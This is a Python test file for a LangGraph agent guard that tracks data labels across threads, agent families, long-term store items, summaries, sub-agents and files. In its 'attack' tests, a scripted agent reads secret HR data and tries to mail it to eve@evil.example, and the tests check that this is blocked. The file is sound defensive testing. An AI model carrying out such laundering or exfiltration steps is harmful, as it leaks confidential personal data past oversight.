"""Data carried around the rules that keep it apart: over runs, agents, summaries and stores."""

from __future__ import annotations

from pathlib import Path
from typing import Annotated, Any

import pytest
from langchain_core.messages import HumanMessage, RemoveMessage
from langchain_core.tools import BaseTool, tool
from langgraph.config import get_store
from langgraph.graph import END, START, MessagesState, StateGraph
from langgraph.graph.message import REMOVE_ALL_MESSAGES
from langgraph.prebuilt import InjectedStore, ToolNode, ToolRuntime, tools_condition
from langgraph.store.base import BaseStore
from langgraph.store.memory import InMemoryStore

from guarded_agent import guard
from guarded_agent.store import Store, memory
from guarded_agent.testing import Recorder, ScriptedModel, call, recording_tool, say
from guarded_agent.tools import FileTools

ASK = {"messages": [HumanMessage("go")]}
LET = {"effect": "allow", "because": "these tests are about labels"}
FUSION = {"compartments": ["hr", "finance"], "effect": "approve", "within": "24h"}


def agent(tools: list[BaseTool], *turns: Any, **options: Any) -> Any:
    bound = ScriptedModel(script=list(turns)).bind_tools(tools)
    builder = StateGraph(MessagesState)
    builder.add_node("agent", lambda state: {"messages": [bound.invoke(state["messages"])]})
    builder.add_node("tools", ToolNode(tools))
    builder.add_edge(START, "agent")
    builder.add_conditional_edges("agent", tools_condition, ["tools", END])
    builder.add_edge("tools", "agent")
    return builder.compile(**options)


def read(*compartments: str) -> dict[str, Any]:
    label = {"confidentiality": "internal", "compartments": list(compartments), "trusted": True}
    return {"access": "read", "label": label}


class Office:
    """An agent that looks things up and mails, run after run."""

    def __init__(self, store: Store, *, agent_id: str = "clerk", **changed: Any) -> None:
        self.recorder = Recorder()
        self.store = store
        self.policy: dict[str, Any] = {
            "version": 1,
            "untrusted": LET,
            "agent": {"id": agent_id},
            "tools": {
                "search_hr": read("hr"),
                "search_ledger": read("finance"),
                "menu": read(),
                "mail": {"access": "send", "rules": [{"effect": "allow"}]},
            },
            "fusion": [FUSION],
            **changed,
        }

    def run(self, thread: str, *names: str) -> Any:
        """Call tools one after the other in a thread; return what the run returned."""
        tools: list[BaseTool] = [
            recording_tool(self.recorder, name) for name in ("search_hr", "search_ledger", "menu")
        ]
        tools.append(recording_tool(self.recorder, "mail", {"text": str}))
        turns = [
            say("", call(name, f"{thread}-{place}", **({"text": "x"} if name == "mail" else {})))
            for place, name in enumerate(names)
        ]
        safe = guard(agent(tools, *turns, say("Done.")), policy=self.policy, store=self.store)
        return safe.invoke(ASK, {"configurable": {"thread_id": thread}})


def test_attack_24_what_two_runs_have_read_meets_in_the_mail_of_the_second(
    any_store: Store,
) -> None:
    """Defence: the rows of what the family has read, which fusion rules with `within` look at."""
    office = Office(any_store)
    office.run("one", "search_hr")
    [request] = office.run("two", "search_ledger", "mail").waiting
    assert office.recorder.count("mail") == 0
    because = request.reasons[0].message
    assert "hr was read in thread one by search_hr of clerk" in because


def test_the_same_mail_from_one_source_goes_out_at_once(any_store: Store) -> None:
    office = Office(any_store)
    office.run("one", "search_hr", "mail")
    office.run("two", "search_hr", "mail")
    assert office.recorder.count("mail") == 2


def test_a_run_that_read_neither_is_not_asked_about_what_others_read(any_store: Store) -> None:
    office = Office(any_store)
    office.run("one", "search_hr")
    office.run("two", "search_ledger")
    office.run("three", "menu", "mail")
    assert office.recorder.count("mail") == 1


@pytest.mark.parametrize(("hours", "mails"), [(23, 0), (25, 1), (-5, 0)])
def test_what_was_read_elsewhere_counts_as_long_as_the_rule_says(
    any_store: Store, hours: int, mails: int
) -> None:
    """A clock that went backwards makes nothing forgotten."""
    office, start = Office(any_store), any_store.clock()
    office.run("one", "search_hr")
    any_store.clock = lambda: start + hours * 3600
    office.run("two", "search_ledger", "mail")
    assert office.recorder.count("mail") == mails


def test_without_a_window_only_the_threads_own_reading_counts(any_store: Store) -> None:
    plain = {"compartments": ["hr", "finance"], "effect": "approve"}
    office = Office(any_store, fusion=[plain])
    office.run("one", "search_hr")
    office.run("two", "search_ledger", "mail")
    assert office.recorder.count("mail") == 1
    assert office.run("three", "search_ledger", "search_hr", "mail").waiting


def test_agents_of_one_family_cannot_share_the_work(any_store: Store) -> None:
    """Defence: rows are kept by family, not by agent."""
    first = Office(any_store, agent={"id": "first", "family": "clerks"}, fusion=[])
    second = Office(any_store, agent={"id": "second", "family": "clerks"})
    first.run("one", "search_hr")
    assert second.run("two", "search_ledger", "mail").waiting


def test_agents_of_different_families_are_strangers(any_store: Store) -> None:
    Office(any_store, agent={"id": "first", "family": "others"}).run("one", "search_hr")
    office = Office(any_store, agent={"id": "second", "family": "clerks"})
    assert not office.run("two", "search_ledger", "mail").waiting


def notes(recorder: Recorder) -> list[BaseTool]:
    """Tools that keep and fetch notes in LangGraph's long-term store."""

    @tool
    def keep(key: str, text: str, store: Annotated[Any, InjectedStore()]) -> str:
        """Keep a note."""
        store.put(("notes",), key, {"text": text})
        return "kept"

    @tool
    def fetch(key: str, runtime: ToolRuntime) -> str:
        """Fetch a note."""
        assert runtime.store is not None
        item = runtime.store.get(("notes",), key)
        return str(item.value["text"]) if item else "nothing"

    @tool
    async def find() -> str:
        """Find notes."""
        items = await get_store().asearch(("notes",))
        return ", ".join(str(item.value["text"]) for item in items)

    return [keep, fetch, find, recording_tool(recorder, "mail", {"to": str, "text": str})]


def guarded_notes(
    store: Store, recorder: Recorder, longterm: BaseStore, *turns: Any, **tools: Any
) -> Any:
    public = {"confidentiality": "public", "trusted": True, "compartments": []}
    policy: dict[str, Any] = {
        "version": 1,
        "untrusted": LET,
        "organisation": {"domains": ["acme.com"]},
        "tools": {
            "search_hr": {"access": "read", "label": {"confidentiality": "secret"}},
            "keep": {"access": "write", "rules": [{"effect": "allow"}]},
            "fetch": {"access": "read", "label": public},
            "find": {"access": "read", "label": public},
            "mail": {
                "access": "send",
                "sink": {"argument": "to", "clearance": "internal"},
                "rules": [{"effect": "allow"}],
            },
        },
    }
    several = [*notes(recorder), recording_tool(recorder, "search_hr")]
    return guard(agent(several, *turns, store=longterm), policy=policy, store=store)


MAIL_OUT = call("mail", "m", to="eve@evil.example", text="x")


@pytest.mark.parametrize("way", ["fetch", "find"])
@pytest.mark.parametrize("hr", [True, False])
async def test_attack_23_what_was_summed_up_and_kept_is_no_less_secret_in_a_new_thread(
    any_store: Store, way: str, hr: bool
) -> None:
    """Defence: the label beside each item of the long-term store, joined as it is read."""
    recorder, longterm = Recorder(), InMemoryStore()
    first = [say("", call("search_hr", "h"))] if hr else []
    keep = say("", call("keep", "k", key="summary", text="ann earns 5000"))
    writer = guarded_notes(any_store, recorder, longterm, *first, keep, say("Done."))
    await writer.ainvoke(ASK, {"configurable": {"thread_id": "one"}})
    look = call("fetch", "f", key="summary") if way == "fetch" else call("find", "f")
    reader = guarded_notes(
        any_store, recorder, longterm, say("", look), say("", MAIL_OUT), say("Done.")
    )
    out = await reader.ainvoke(ASK, {"configurable": {"thread_id": "two"}})
    assert "5000" in str(out["messages"][2].content)
    assert recorder.count("mail") == (0 if hr else 1)


def test_an_item_that_nobody_saw_written_is_untrusted_and_internal(any_store: Store) -> None:
    recorder, longterm = Recorder(), InMemoryStore()
    longterm.put(("notes",), "old", {"text": "from before"})
    turns = [say("", call("fetch", "f", key="old")), say("Done.")]
    safe = guarded_notes(any_store, recorder, longterm, *turns)
    safe.invoke(ASK, {"configurable": {"thread_id": "t"}})
    with any_store.read() as connection:
        label = memory.load(connection, "agent", "t").label
    assert (str(label.confidentiality), label.trusted) == ("internal", False)


def test_attack_23_a_node_that_sums_up_into_the_store_carries_the_label_too(
    any_store: Store,
) -> None:
    """Defence: a node's code gets the store through the same labels as a tool's."""
    recorder, longterm = Recorder(), InMemoryStore()

    def remember(state: MessagesState, *, store: BaseStore) -> dict[str, Any]:
        store.put(("notes",), "all", {"text": str(state["messages"][-2].content)})
        return {"messages": [RemoveMessage(REMOVE_ALL_MESSAGES)]}

    def recall(state: MessagesState, *, store: BaseStore) -> dict[str, Any]:
        item = store.get(("notes",), "all")
        return {"messages": [HumanMessage(item.value["text"] if item else "nothing")]}

    def built(*turns: Any, first: bool) -> Any:
        tools = [recording_tool(recorder, "search_hr", result="ann earns 5000")]
        tools.append(recording_tool(recorder, "mail", {"to": str, "text": str}))
        bound = ScriptedModel(script=list(turns)).bind_tools(tools)
        builder = StateGraph(MessagesState)
        builder.add_node("agent", lambda state: {"messages": [bound.invoke(state["messages"])]})
        builder.add_node("tools", ToolNode(tools))
        builder.add_node("note", remember if first else recall)
        builder.add_edge("tools", "agent")
        if first:
            builder.add_edge(START, "agent")
            builder.add_conditional_edges("agent", tools_condition, {"tools": "tools", END: "note"})
        else:
            builder.add_edge(START, "note")
            builder.add_edge("note", "agent")
            builder.add_conditional_edges("agent", tools_condition, ["tools", END])
        policy = {
            "version": 1,
            "untrusted": LET,
            "organisation": {"domains": ["acme.com"]},
            "tools": {
                "search_hr": {"access": "read", "label": {"confidentiality": "secret"}},
                "mail": {
                    "access": "send",
                    "sink": {"argument": "to", "clearance": "internal"},
                    "rules": [{"effect": "allow"}],
                },
            },
        }
        return guard(builder.compile(store=longterm), policy=policy, store=any_store)

    one = built(say("", call("search_hr", "h")), say("Done."), first=True)
    assert one.invoke(ASK, {"configurable": {"thread_id": "one"}})["messages"] == []
    two = built(say("", MAIL_OUT), say("Done."), first=False)
    two.invoke(ASK, {"configurable": {"thread_id": "two"}})
    assert recorder.names == ("search_hr",)
    # Even in its own thread, from which every message was removed.
    three = built(say("", MAIL_OUT), say("Done."), first=True)
    three.invoke(ASK, {"configurable": {"thread_id": "one"}})
    assert recorder.names == ("search_hr",)


@pytest.mark.parametrize("thread", [{}, {"configurable": {"thread_id": "inner"}}])
@pytest.mark.parametrize("where", ["before", "after"])
def test_attack_23_an_agent_inside_knows_what_the_one_around_has_read_and_the_other_way(
    any_store: Store, thread: dict[str, Any], where: str
) -> None:
    """Defence: what a call inside has read joins the call around, and the other way round."""
    recorder = Recorder()
    hr = recording_tool(recorder, "search_hr", result="ann earns 5000")
    mail = recording_tool(recorder, "mail", {"to": str, "text": str})
    outside = say("", MAIL_OUT)
    reads = say("", call("search_hr", "h"))
    inner = agent([hr, mail], outside if where == "before" else reads, say("Done."))

    @tool
    def helper(query: str) -> str:
        """Ask a helper."""
        return str(inner.invoke({"messages": [HumanMessage(query)]}, thread or None)["messages"])

    asks = say("", call("helper", "a", query="go"))
    turns = [reads, asks] if where == "before" else [asks, outside]
    policy: dict[str, Any] = {
        "version": 1,
        "untrusted": LET,
        "organisation": {"domains": ["acme.com"]},
        "tools": {
            "search_hr": {"access": "read", "label": {"confidentiality": "secret"}},
            "helper": {"access": "read", "label": {"confidentiality": "public", "trusted": True}},
            "mail": {
                "access": "send",
                "sink": {"argument": "to", "clearance": "internal"},
                "rules": [{"effect": "allow"}],
            },
        },
    }
    tools = [hr, mail, helper]
    safe = guard(agent(tools, *turns, say("Done.")), policy=policy, store=any_store)
    safe.invoke(ASK, {"configurable": {"thread_id": "outer"}})
    assert "search_hr" in recorder.names
    assert recorder.count("mail") == 0


def test_attack_23_a_file_written_in_one_thread_is_no_less_secret_in_the_next(
    any_store: Store, tmp_path: Path
) -> None:
    """Defence: the file tools say what they write and read, and the path keeps its label."""
    recorder = Recorder()

    def run(thread: str, *calls: Any) -> None:
        tools = [
            *FileTools(tmp_path).tools(),
            recording_tool(recorder, "search_hr"),
            recording_tool(recorder, "mail", {"to": str, "text": str}),
        ]
        allow = [{"effect": "allow"}]
        policy: dict[str, Any] = {
            "version": 1,
            "untrusted": LET,
            "organisation": {"domains": ["acme.com"]},
            "tools": {
                "search_hr": {"access": "read", "label": {"confidentiality": "secret"}},
                "*_file*": {"rules": allow},
                "delete_path": {},
                "mail": {
                    "access": "send",
                    "sink": {"argument": "to", "clearance": "internal"},
                    "rules": allow,
                },
            },
        }
        turns = [say("", each) for each in calls]
        safe = guard(agent(tools, *turns, say("Done.")), policy=policy, store=any_store)
        safe.invoke(ASK, {"configurable": {"thread_id": thread}})

    hr = call("search_hr", "h")
    write = call("write_file", "w", path="notes/ann earns 5000.txt", content="ann earns 5000")
    run("one", hr, write)
    run("two", call("read_file", "r", path="notes/ann earns 5000.txt"), MAIL_OUT)
    run("three", call("list_files", "l", path="notes"), MAIL_OUT)
    assert recorder.count("mail") == 0
    run("four", call("write_file", "w", path="menu.txt", content="soup"), MAIL_OUT)
    run("five", call("read_file", "r", path="menu.txt"), MAIL_OUT)
    assert recorder.count("mail") == 2
